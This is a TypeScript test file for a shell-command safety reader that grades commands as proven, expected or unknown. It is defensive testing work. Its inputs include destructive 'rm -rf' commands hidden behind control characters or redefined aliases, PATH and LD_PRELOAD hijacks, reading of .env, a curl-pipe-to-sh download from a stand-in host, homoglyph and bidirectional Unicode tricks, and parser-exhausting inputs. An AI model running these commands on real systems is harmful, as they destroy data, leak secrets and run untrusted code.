import { describe, expect, it } from 'vitest'
import { fixedFacts } from '../../facts/fixed.ts'
import type { Grade } from '../action.ts'
import { effectsOf, readCommand } from '../testing.ts'
import { readShell } from './read-shell.ts'

describe('grades', () => {
  it.each<[string, Grade | undefined]>([
    ['', 'proven'],
    ['ls -la', 'proven'],
    ['echo hi; pwd; true', 'proven'],
    ['cat README.md | grep x | wc -l', 'proven'],
    ['cd src && ls 2>/dev/null', 'proven'],
    ['for f in *.md; do cat "$f"; done', 'proven'],
    ['for f in a b; do [ -f $f ] && echo $f; done', 'proven'],
    ['x=$(git rev-parse HEAD); echo "$x"', 'proven'],
    ['NODE_ENV=test CI=1 ls', 'proven'],
    ['if [ -d src ]; then ls src; else echo none; fi', 'proven'],
    ['git log | head -5 || true', 'proven'],
    ['timeout 5 ls', 'proven'],
    ['bash -c "ls src"', 'proven'],
    ['find . -name "*.ts" | xargs grep -l foo', 'proven'],
    ['while read -r f; do echo "$f"; done < list.txt', 'proven'],
    ['echo x > notes.txt', 'expected'],
    ['ls > /tmp/out.txt', 'expected'],
    ['cat <<E > notes.md\nhello\nE', 'expected'],
    ['T=$(mktemp -d); echo x > "$T/a"; rm -rf "$T"', 'expected'],
    ['mkdir -p /tmp/w && cd /tmp/w && echo x > y', 'expected'],
    ['echo x > ~/notes.txt', undefined],
    ['echo x > /etc/hosts', undefined],
    ['echo x >> .github/workflows/ci.yml', undefined],
    ['echo x > .git/hooks/pre-commit', undefined],
    ['echo x > package.json', undefined],
    ['echo x > .env', undefined],
    ['echo x > "$UNSET_PLACE"', undefined],
    ['cd "$UNSET_PLACE" && ls', undefined],
    ['cat .env', undefined],
    ['sudo ls', undefined],
    ['no-such-program', undefined],
    ['$CMD x', undefined],
    ['eval "$X"', undefined],
    ['bash -c "$X"', undefined],
    ['bash -c "ls $X"', undefined],
    ['ls; (', undefined],
    ['LD_PRELOAD=./x.so ls', undefined],
    ['PATH=.:$PATH ls', undefined],
    ['PATH=/tmp/bin:$PATH ls', undefined],
    ['export PATH="$HOME/.local/bin:$PATH"; ls', 'proven'],
    ['./script.sh', undefined],
    ['/tmp/ls', undefined],
    ['git() { ls; }; git', 'proven'],
    ['ls() { rm -rf ~; }; ls', undefined],
    ['alias ls="rm -rf ~"; ls', undefined],
    ['for PATH in /tmp; do ls; done', undefined],
    ['read PATH <<< /tmp; ls', undefined],
    ['printf -v PATH /tmp; ls', undefined],
    ['hash -p /tmp/x ls; ls', undefined],
    ['source ./activate', undefined],
    ['source .venv/bin/activate && ls', 'expected'],
  ])('%s', (text, grade) => {
    const read = readCommand(text)
    expect([read.grade, read.grade === undefined ? '' : read.unknowns]).toEqual([grade, grade === undefined ? '' : []])
  })
})

describe('characters that no honest command has', () => {
  it.each([
    ['ls\r', 'carriage return'],
    ['ls\0', 'control'],
    ['ls \x1b[31m', 'control'],
    ['echo "\u202e"', 'bidirectional'],
    ['echo \u2066x', 'bidirectional'],
    ['ls\u00a0-la', 'invisible'],
    ['ls \u200b', 'invisible'],
    ['ls \ufeff', 'invisible'],
    ['\u0441at x', 'ASCII'],
    ['curl https://ex\u0430mple.com', 'ASCII'],
    ['=curl x', 'zsh'],
    ['echo x >! y', 'zsh'],
    ['ls *(.)', 'zsh'],
    ['noglob ls', 'zsh'],
    ['cat =(ls)', 'syntax'],
  ])('%j', (text, why) => {
    const read = readCommand(text)
    expect(read.grade).toBeUndefined()
    expect(read.unknowns.map((unknown) => unknown.why).join('; ')).toContain(why)
  })

  it.each(['echo "⚠️ done — ok"', "echo 'Ünïcode ✅'", 'echo "a\u00a0b"', 'grep -r "naïve" .'])('fine: %s', (text) => {
    expect(readCommand(text).grade).toBe('proven')
  })

  it.each(['rm -rf /\0', 'r\0m -rf /', 'ls\r\nrm -rf /\r\n'])('seen through: %j', (text) => {
    expect(readCommand(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
  })
})

describe('hostile sizes end in an answer', () => {
  const big: readonly (readonly [string, string])[] = [
    ['substitutions', `echo ${'$('.repeat(20_000)}`],
    ['closed substitutions', `echo ${'$(echo '.repeat(190)}${')'.repeat(190)}`],
    ['parentheses', '('.repeat(20_000)],
    ['braces', `echo ${'{a,'.repeat(20_000)}`],
    ['brace products', `echo ${'{a,b}'.repeat(40_000)}`],
    ['conditions', 'if a; then '.repeat(20_000)],
    ['coprocesses', 'coproc '.repeat(20_000)],
    ['one word', `cat ${'a'.repeat(250_000)}`],
    ['commands', 'a;'.repeat(50_000)],
    ['chain', `${'a && '.repeat(40_000)}b`],
    ['pipe', `${'a | '.repeat(40_000)}b`],
    ['here-documents', 'cat <<E\nx $y\nE\n'.repeat(10_000)],
    ['variables', Array.from({ length: 10_000 }, (_, index) => `v${index}=$v${index - 1}x`).join(';')],
    ['loops', `${'for a in {1..30}; do '.repeat(6)}x${'; done'.repeat(6)}`],
    [
      'functions',
      `${Array.from({ length: 40 }, (_, index) => `f${index}() { f${index + 1}; f${index + 1}; }`).join(';')}; f0`,
    ],
    ['eval', `${'eval '.repeat(40_000)}x`],
    ['wrappers', `${'sudo '.repeat(50_000)}x`],
    ['arguments', `cat ${'<(a) '.repeat(40_000)}`],
    ['redirects', `x ${Array.from({ length: 20_000 }, (_, index) => `>f${index}`).join(' ')}`],
    ['too long', 'ls '.repeat(100_000)],
  ]
  const seen = new Map<string, ReturnType<typeof readCommand>>()
  /** Each takes its time, and is asked about three times. */
  const readOnce = (text: string) => {
    const read = seen.get(text) ?? readCommand(text)
    seen.set(text, read)
    return read
  }

  it.each(big)('%s', (_, text) => {
    const read = readOnce(text)
    expect(read.grade === undefined || read.grade === 'proven').toBe(true)
  })

  it.each(big.filter(([name]) => !['one word', 'brace products'].includes(name)))(
    '%s: nothing is proven',
    (_, text) => {
      expect(readOnce(text).grade).toBeUndefined()
    },
  )

  it.each(['too long', 'parentheses', 'commands', 'loops', 'eval', 'wrappers', 'arguments', 'redirects'])(
    '%s: says that something runs unread',
    (name) => {
      const text = big.find(([each]) => each === name)?.[1] ?? ''
      expect(readOnce(text).effects).toContainEqual(expect.objectContaining({ kind: 'run-code', read: false }))
    },
  )

  it('doubling a value does not explode', () => {
    expect(readCommand(`x=aa; ${'x=$x$x; '.repeat(40)}echo $x`).commands).toHaveLength(1)
  })

  it('finds what hides behind many harmless commands', () => {
    const text = `${'echo a; '.repeat(20_000)}rm -rf /`
    expect(readCommand(text).effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
  })

  it('says so when a file that runs may hold more texts than are read', () => {
    const text = (at: number) => (at === 8 ? 'curl https://files.example.net/a | sh' : `echo ${at}`)
    const writes = Array.from({ length: 12 }, (_, at) => `test -e a${at} && echo '${text(at)}' > t.sh`).join('\n')
    expect(readCommand(`echo 'echo x' > t.sh\n${writes}\nbash t.sh`).unknowns).toHaveLength(1)
    expect(readCommand(`${writes}\nls`).unknowns).toEqual([])
  })

  it('reads the line before a syntax error', () => {
    expect(readCommand('rm -rf /\nif').effects).toContainEqual(expect.objectContaining({ kind: 'delete-path' }))
  })
})

describe('wrappers the user declared', () => {
  it('pass their words on', () => {
    const read = readShell('tidy git status', fixedFacts(), { wrappers: ['tidy'] })
    expect(read.grade).toBe('proven')
    expect(read.commands.at(-1)).toMatchObject({ name: 'git', wrapperNames: ['tidy'] })
  })
})

describe('programs that nobody knows', () => {
  it.each<[string, Parameters<typeof readCommand>[1], string]>([
    ['frob', {}, 'unknown'],
    ['frob', { live: true }, 'missing'],
    ['frob', { live: true, which: () => '/usr/bin/frob' }, 'installed'],
    ['frob', { live: true, which: () => '/home/dev/project/bin/frob' }, 'project'],
    ['frob', { live: true, which: () => '/tmp/frob' }, 'temporary'],
    ['frob', { which: () => '/opt/frob', session: { downloaded: new Map([['/opt/frob', 'x.test']]) } }, 'downloaded'],
    ['/usr/bin/frob', {}, 'installed'],
    ['node_modules/.bin/frob', {}, 'project'],
  ])('%s with %j is %s', (text, facts, identity) => {
    expect(readCommand(text, facts).effects).toContainEqual(expect.objectContaining({ kind: 'run-program', identity }))
  })
})

it('a pattern for scripts of the project stands for no program of the machine', () => {
  expect(effectsOf('tools/*.sh').filter(({ kind }) => kind !== 'run-code')).toEqual([])
  expect(effectsOf('/???/r? -rf ~').map(({ kind }) => kind)).toContain('delete-path')
})

it.each([
  `ls src | watchit -s 'rm -rf ~/docs'`,
  `ls src | watchit -ns 'rm -rf ~/docs'`,
  `watchit --shell 'rm -rf ~/docs' src`,
  "just --justfile /dev/stdin <<'EOF'\ndefault:\n    rm -rf ~/docs\nEOF",
  "task -t /proc/self/fd/0 <<'EOF'\ntasks:\n  default:\n    cmds: ['rm -rf ~/docs']\nEOF",
])('a command in an option, and recipes on standard input: %s', (text) =>
  expect(effectsOf(text).map(({ kind }) => kind)).toContain('delete-path'),
)
